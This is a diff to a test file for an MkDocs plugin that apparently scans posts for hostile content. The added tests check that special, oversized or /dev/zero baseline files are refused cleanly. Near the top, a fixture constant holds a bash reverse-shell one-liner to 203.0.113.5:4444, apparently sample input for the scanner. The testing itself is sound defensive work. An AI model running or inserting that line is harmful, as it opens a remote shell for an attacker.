@@ -3,13 +3,19 @@ plugin read them. Everything runs the real console scripts."""
 
 from __future__ import annotations
 
+import contextlib
 import json
 import re
+import resource
+import stat
+import subprocess
 from pathlib import Path
 
 import pytest
 
-from tests.conftest import Site, make_site, mkdocs, threatpub
+from mkdocs_threatpub.core.baseline import BaselineError, read_entries
+from mkdocs_threatpub.pipeline.session import SUPPRESSIBLE
+from tests.conftest import BIN, Site, make_site, mkdocs, run_env, threatpub
 
 SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
 POST = f"""
@@ -242,3 +248,99 @@ def test_build_reads_the_baseline(tmp_path: Path) -> None:
     x = page(report, "posts/x.md")
     assert x["verdict"] == "hold"
     assert {"CAC402", "META011"} <= {f["code"] for f in x["findings"]}
+
+
+# -- reading limits (issue 16, case 10) ----------------------------------------------------------
+
+TEN_MB = 10 * 1024 * 1024
+# What a run may take before a read without limit counts as a failure (MemoryError).
+MEMORY_LIMIT = 2 << 30
+
+
+def _limited(command: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
+    """Run ``command`` with at most MEMORY_LIMIT bytes of address space and two minutes: a
+    file read without limit ends in a MemoryError rather than exhausting the machine."""
+
+    def limit() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
+
+    return subprocess.run(
+        command,
+        cwd=cwd,
+        env=run_env(),
+        preexec_fn=limit,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+
+
+def _dev_zero() -> Path:
+    zero = Path("/dev/zero")
+    if not zero.exists() or not stat.S_ISCHR(zero.stat().st_mode):
+        pytest.skip("no /dev/zero here")
+    return zero
+
+
+@pytest.mark.parametrize("kind", ["folder", "fifo", "device"])
+def test_baseline_that_is_not_a_regular_file_is_refused(tmp_path: Path, kind: str) -> None:
+    from tests.test_paths import SPECIAL, make_special, readers_of
+
+    path = tmp_path / "baseline.json"
+    unchanged = make_special(kind, path)
+    watch = readers_of(path) if kind == "fifo" else contextlib.nullcontext([])
+    with watch as readers, pytest.raises(BaselineError) as raised:
+        read_entries(path, SUPPRESSIBLE)
+    message = raised.value.args[0]
+    assert f"baseline file {path}: it is " in message
+    assert "not a regular file" in message
+    assert "'.threatpub/baseline.json'" in message
+    assert "基线文件" in message.zh
+    assert SPECIAL[kind][2] in message
+    assert unchanged()
+    assert not readers, "the FIFO was read: it would wait for a writer for ever"
+
+
+def test_baseline_larger_than_the_limit_is_refused(tmp_path: Path) -> None:
+    site = site_with_baseline(tmp_path / "site")
+    big = site.root / BASELINE
+    big.parent.mkdir()
+    with big.open("wb") as handle:
+        handle.truncate(TEN_MB + 1)  # sparse: no disk used
+    for command in ("check", "baseline"):
+        result = threatpub(command, "-f", "mkdocs.yml", cwd=site.root)
+        assert result.returncode == 2, result.stdout + result.stderr
+        assert f"baseline file {big}: it is larger than 10 MB" in result.stderr, result.stderr
+        assert "Traceback" not in result.stderr
+    assert big.stat().st_size == TEN_MB + 1  # never rewritten
+    # Just under the limit is read (and rejected only for what it holds).
+    with big.open("r+b") as handle:
+        handle.truncate(TEN_MB)
+    result = threatpub("check", "-f", "mkdocs.yml", cwd=site.root)
+    assert result.returncode == 2
+    assert "not valid JSON" in result.stderr, result.stderr
+
+
+def test_baseline_option_naming_dev_zero_is_refused_unread(tmp_path: Path) -> None:
+    zero = _dev_zero()
+    site = site_with_baseline(tmp_path / "site", baseline=str(zero))
+    result = _limited([str(BIN / "threatpub"), "check", "-f", "mkdocs.yml"], site.root)
+    assert result.returncode == 2, result.stdout + result.stderr[-3000:]
+    assert (
+        "threatpub option 'baseline': /dev/zero exists and is a character device" in result.stderr
+    ), result.stderr[-3000:]
+    assert "Traceback" not in result.stderr
+
+
+@pytest.mark.slow
+def test_build_with_dev_zero_as_baseline_fails_at_once(tmp_path: Path) -> None:
+    zero = _dev_zero()
+    site = site_with_baseline(tmp_path / "site", baseline=str(zero))
+    result = _limited([str(BIN / "mkdocs"), "build"], site.root)
+    output = result.stdout + result.stderr
+    assert result.returncode != 0, output[-3000:]
+    assert "threatpub option 'baseline': /dev/zero exists and is a character device" in output
+    assert "Traceback" not in output, output[-3000:]
+    assert "MemoryError" not in output, output[-3000:]
+    assert not (site.out / "index.html").exists()
